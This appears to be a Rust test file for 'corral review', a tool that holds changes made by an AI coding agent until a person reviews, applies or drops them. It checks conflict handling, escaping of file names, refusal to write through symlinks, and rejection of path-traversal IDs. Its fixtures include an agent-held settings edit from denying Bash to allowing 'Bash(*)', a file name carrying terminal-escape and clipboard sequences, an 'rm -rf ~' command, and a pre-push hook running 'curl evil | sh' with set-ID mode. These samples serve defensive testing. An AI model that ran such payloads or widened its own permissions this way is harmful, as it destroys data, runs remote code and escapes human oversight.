//! `corral review`: a person lists the changes held for them, reads one as a diff, applies
//! or drops it; an apply over a file they changed since is refused with the three
//! versions, and nothing a model named is shown raw or written through a symlink.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use corral::{Held, HeldStore, NewHeld};

use crate::common::{Scratch, UNPRIVILEGED, UserScratch, chown_tree, is_root, text};

const RUN: &str = "r0193f5c2a1b-1a2b3c4d";
const SETTINGS: &str = ".claude/settings.json";
const BEFORE: &[u8] = b"{\n  \"permissions\": {\n    \"deny\": [\"Bash\"]\n  }\n}\n";
const AFTER: &[u8] = b"{\n  \"permissions\": {\n    \"allow\": [\"Bash(*)\"]\n  }\n}\n";

/// The held changes beside the scratch's trace.
fn store(state: &Path) -> HeldStore {
    HeldStore::in_state_dir(state)
}

/// Hold `held` over `base` at `rel` of `ws`, as step `step` of `run`.
fn hold(
    state: &Path,
    ws: &Path,
    (run, step): (&str, i64),
    rel: &str,
    base: Option<&[u8]>,
    held: Option<(&[u8], u32)>,
) -> Held {
    store(state)
        .hold(
            run,
            step,
            NewHeld {
                workspace: &ws.canonicalize().unwrap(),
                path: Path::new(rel),
                base,
                held,
                runs: "Claude Code (hooks, permissions)",
            },
        )
        .unwrap()
}

fn state(s: &Scratch) -> PathBuf {
    s.dir.path().join("state")
}

/// `text`, with the scratch's workspace and the times a listing shows made constant.
fn normal(s: &Scratch, out: &[u8]) -> String {
    let ws = s.workspace().canonicalize().unwrap();
    text(out)
        .replace(&ws.display().to_string(), "WS")
        .lines()
        // ` held YYYY-MM-DD HH:MM:SS`, at the end of a line or before a comma.
        .map(|l| match l.find(" held 2") {
            Some(at) => format!("{} held TIME{}", &l[..at], &l[at + 25..]),
            None => l.to_string(),
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

#[test]
fn review_lists_shows_applies_and_drops() {
    let s = Scratch::new();
    let ws = s.workspace();
    std::fs::create_dir_all(ws.join(".claude")).unwrap();
    std::fs::write(ws.join(SETTINGS), BEFORE).unwrap();
    std::fs::write(ws.join(".mcp.json"), b"{}\n").unwrap();
    let st = state(&s);
    let changed = hold(
        &st,
        &ws,
        (RUN, 2),
        SETTINGS,
        Some(BEFORE),
        Some((AFTER, 0o644)),
    );
    let hook = hold(
        &st,
        &ws,
        (RUN, 2),
        ".husky/pre-commit",
        None,
        Some((b"#!/bin/sh\nexit 0\n", 0o755)),
    );
    let removed = hold(&st, &ws, (RUN, 3), ".mcp.json", Some(b"{}\n"), None);

    let out = s.output(&["review"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        normal(&s, &out.stdout),
        format!(
            "in WS:\n\
             \x20 {RUN}-2-1  .claude/settings.json  +1 -1  run by Claude Code (hooks, permissions)  held TIME\n\
             \x20 {RUN}-2-2  .husky/pre-commit  new, +2 lines  run by Claude Code (hooks, permissions)  held TIME\n\
             \x20 {RUN}-3-1  .mcp.json  removed  run by Claude Code (hooks, permissions)  held TIME\n\
             see one: corral review show ID; then corral review apply ID, or corral review drop ID"
        )
    );

    let out = s.output(&["review", "--json"]);
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 3, "{rows}");
    assert_eq!(rows[0]["id"], changed.id.as_str());
    assert_eq!(rows[0]["path"], SETTINGS);
    assert_eq!(
        rows[0]["change"],
        serde_json::json!({"kind": "lines", "added": 1, "removed": 1})
    );
    assert_eq!(rows[1]["mode"], 0o755);
    assert_eq!(rows[2]["held_sha256"], serde_json::Value::Null);

    let out = s.output(&["review", "show", &changed.id]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        normal(&s, &out.stdout),
        format!(
            "{RUN}-2-1: .claude/settings.json in WS, run by Claude Code (hooks, permissions), held TIME\n\
             --- .claude/settings.json  (yours, when the call started)\n\
             +++ .claude/settings.json  (held: mode 0644)\n\
             @@ -1,5 +1,5 @@\n \
             {{\n   \
             \"permissions\": {{\n\
             -    \"deny\": [\"Bash\"]\n\
             +    \"allow\": [\"Bash(*)\"]\n   \
             }}\n \
             }}\n\
             apply it: corral review apply {RUN}-2-1; or forget it: corral review drop {RUN}-2-1"
        )
    );
    let out = s.output(&["review", "show", &changed.id, "--json"]);
    let shown: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        shown["diff"].as_str().unwrap().contains("+    \"allow\""),
        "{shown}"
    );

    // Each hint, followed literally.
    let out = s.output(&["review", "apply", &changed.id]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        format!("applied {RUN}-2-1: .claude/settings.json written (mode 0644)\n")
    );
    assert_eq!(std::fs::read(ws.join(SETTINGS)).unwrap(), AFTER);

    let out = s.output(&["review", "apply", &hook.id, "--json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let applied: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(applied["applied"]["how"], "written");
    assert_eq!(mode(&ws.join(".husky/pre-commit")), 0o755);

    let out = s.output(&["review", "drop", &removed.id]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        format!("dropped {RUN}-3-1: .mcp.json stays as it is in the workspace\n")
    );
    assert_eq!(std::fs::read(ws.join(".mcp.json")).unwrap(), b"{}\n");

    let out = s.output(&["review"]);
    assert_eq!(text(&out.stdout), "nothing held\n");
    let out = s.output(&["review", "--json"]);
    assert_eq!(text(&out.stdout), "[]\n");
}

#[test]
fn apply_over_a_file_changed_since_shows_three_versions_and_changes_nothing() {
    let s = Scratch::new();
    let ws = s.workspace();
    std::fs::create_dir_all(ws.join(".claude")).unwrap();
    let theirs = b"{\"permissions\": {\"deny\": [\"Bash\", \"Write\"]}}\n";
    std::fs::write(ws.join(SETTINGS), theirs).unwrap();
    let held = hold(
        &state(&s),
        &ws,
        (RUN, 1),
        SETTINGS,
        Some(BEFORE),
        Some((AFTER, 0o644)),
    );

    let out = s.output(&["review", "apply", &held.id]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        "yours when the call started:\n\
         \x20 | {\n  |   \"permissions\": {\n  |     \"deny\": [\"Bash\"]\n  |   }\n  | }\n\
         yours now:\n\
         \x20 | {\"permissions\": {\"deny\": [\"Bash\", \"Write\"]}}\n\
         held (the call's version, not applied):\n\
         \x20 | {\n  |   \"permissions\": {\n  |     \"allow\": [\"Bash(*)\"]\n  |   }\n  | }\n"
    );
    assert_eq!(
        text(&out.stderr),
        format!(
            "corral: not applied: .claude/settings.json changed since the call started, and \
             applying would overwrite that; nothing was changed. Edit it by hand, then \
             `corral review drop {RUN}-1-1`\n"
        )
    );
    assert_eq!(std::fs::read(ws.join(SETTINGS)).unwrap(), theirs);

    let out = s.output(&["review", "apply", &held.id, "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let conflict: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(conflict["conflict"]["current"]["kind"], "file");
    assert_eq!(
        conflict["conflict"]["current"]["text"],
        text(theirs).as_str()
    );
    assert_eq!(conflict["conflict"]["entry"]["id"], held.id.as_str());

    // The hint, followed literally.
    let out = s.output(&["review", "drop", &held.id]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read(ws.join(SETTINGS)).unwrap(), theirs);
}

#[test]
fn a_hostile_name_is_shown_escaped_and_a_symlinked_parent_is_not_written_through() {
    let s = Scratch::new();
    let ws = s.workspace();
    let name = ".vscode/tasks\u{1b}]52;c;ZXZpbA==\u{7}\u{202e}nosj.json";
    let escaped = ".vscode/tasks\\x1b]52;c;ZXZpbA==\\x07\\u202enosj.json";
    let named = hold(
        &state(&s),
        &ws,
        (RUN, 1),
        name,
        None,
        Some((b"{\"command\": \"\x1b[2Jrm -rf ~\"}\n", 0o644)),
    );
    for args in [&["review"][..], &["review", "show", &named.id]] {
        let out = s.output(args);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let shown = text(&out.stdout);
        assert!(shown.contains(escaped), "{args:?}: {shown}");
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\u{202e}') && !shown.contains('\u{7}'),
            "{args:?}: {shown:?}"
        );
    }
    let out = s.output(&["review", "show", &named.id]);
    assert!(
        text(&out.stdout).contains("+{\"command\": \"\\x1b[2Jrm -rf ~\"}\n"),
        "{}",
        text(&out.stdout)
    );

    // The box planted `.claude` -> a directory outside the workspace.
    let outside = s.dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("settings.json"), BEFORE).unwrap();
    let planted = hold(
        &state(&s),
        &ws,
        (RUN, 2),
        SETTINGS,
        None,
        Some((AFTER, 0o755)),
    );
    std::os::unix::fs::symlink(&outside, ws.join(".claude")).unwrap();
    let out = s.output(&["review", "apply", &planted.id]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("is a symlink or a mount, and nothing is written through one"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(
        std::fs::read(outside.join("settings.json")).unwrap(),
        BEFORE
    );
    assert_eq!(mode(&outside.join("settings.json")) & 0o111, 0);
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1);

    // An ID that would name a directory outside the store is no ID.
    std::fs::create_dir_all(s.dir.path().join("victim/1/1")).unwrap();
    for id in ["../victim-1-1", "../../state-1-1"] {
        let out = s.output(&["review", "drop", id]);
        assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
        assert!(
            text(&out.stderr).contains("(`corral review` lists them)"),
            "{}",
            text(&out.stderr)
        );
    }
    assert!(s.dir.path().join("victim/1/1").exists());
}

#[test]
fn an_unknown_id_exits_2_and_names_what_is_held() {
    let s = Scratch::new();
    let out = s.output(&["review", "show", "r1-1-1"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        text(&out.stderr),
        "corral: no held change r1-1-1: nothing is held\n"
    );
    let held = hold(
        &state(&s),
        &s.workspace(),
        (RUN, 1),
        ".mcp.json",
        None,
        Some((b"{}", 0o644)),
    );
    let out = s.output(&["review", "apply", "r1-1-1"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        text(&out.stderr),
        format!(
            "corral: no held change r1-1-1; held now: {} (`corral review` lists them)\n",
            held.id
        )
    );
    let help = s.output(&["review", "--help"]);
    assert!(
        text(&help.stdout).contains("Exit status: 0 done (or nothing held); 1 not applied"),
        "{}",
        text(&help.stdout)
    );
}

#[test]
fn the_state_directory_is_found_as_trace_and_undo_find_it() {
    let s = Scratch::new();
    let elsewhere = s.dir.path().join("elsewhere");
    hold(
        &elsewhere,
        &s.workspace(),
        (RUN, 1),
        ".mcp.json",
        None,
        Some((b"{}", 0o644)),
    );
    for how in ["--state", "CORRAL_STATE_DIR", "--store"] {
        let mut cmd = s.corral(&[]);
        cmd.env_remove("CORRAL_STORE");
        match how {
            "--state" => cmd.arg("--state").arg(&elsewhere).arg("review"),
            "--store" => cmd
                .arg("--store")
                .arg(elsewhere.join("trace.db"))
                .arg("review"),
            _ => cmd.env("CORRAL_STATE_DIR", &elsewhere).arg("review"),
        };
        let out = cmd.output().unwrap();
        assert!(
            text(&out.stdout).contains(".mcp.json  new, +1 lines"),
            "{how}: {}{}",
            text(&out.stdout),
            text(&out.stderr)
        );
    }
    assert_eq!(text(&s.output(&["review"]).stdout), "nothing held\n");
}

#[test]
fn trace_prune_removes_the_held_changes_of_runs_no_longer_in_the_trace() {
    let s = Scratch::new();
    let out = s.output(&["exec", "--", "true"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let runs = s.output(&["trace", "runs", "--json"]);
    let runs: serde_json::Value = serde_json::from_slice(&runs.stdout).unwrap();
    let run = runs[0]["id"].as_str().unwrap().to_string();
    let st = state(&s);
    let kept = hold(
        &st,
        &s.workspace(),
        (&run, 1),
        ".mcp.json",
        None,
        Some((b"{}", 0o644)),
    );
    hold(
        &st,
        &s.workspace(),
        ("r0000000000-gone", 1),
        ".mcp.json",
        None,
        Some((b"{}", 0o644)),
    );
    hold(
        &st,
        &s.workspace(),
        ("r0000000000-gone", 2),
        ".mcp.json",
        None,
        Some((b"{}", 0o644)),
    );

    let out = s.output(&["trace", "prune"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("removed 2 held changes of runs no longer in the trace"),
        "{}",
        text(&out.stdout)
    );
    assert_eq!(store(&st).list().unwrap(), vec![kept]);
}

#[test]
fn an_ordinary_user_applies_a_held_change() {
    let Some(u) = UserScratch::new() else { return };
    let ws = u.workspace();
    std::fs::create_dir_all(ws.join(".githooks")).unwrap();
    std::fs::write(ws.join(".githooks/pre-push"), b"#!/bin/sh\n").unwrap();
    let root = u.s.dir.path();
    let held = hold(
        &root.join("state"),
        &ws,
        (RUN, 1),
        ".githooks/pre-push",
        Some(b"#!/bin/sh\n"),
        Some((b"#!/bin/sh\ncurl evil | sh\n", 0o6755)),
    );
    if is_root() {
        chown_tree(root, UNPRIVILEGED);
    }
    let out = u.corral(&["review", "apply", &held.id]).output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let hook = ws.join(".githooks/pre-push");
    assert_eq!(
        std::fs::read(&hook).unwrap(),
        b"#!/bin/sh\ncurl evil | sh\n"
    );
    // Never a set-ID file on the host.
    assert_eq!(mode(&hook), 0o755);
    let out = u.corral(&["review"]).output().unwrap();
    assert_eq!(text(&out.stdout), "nothing held\n");
}
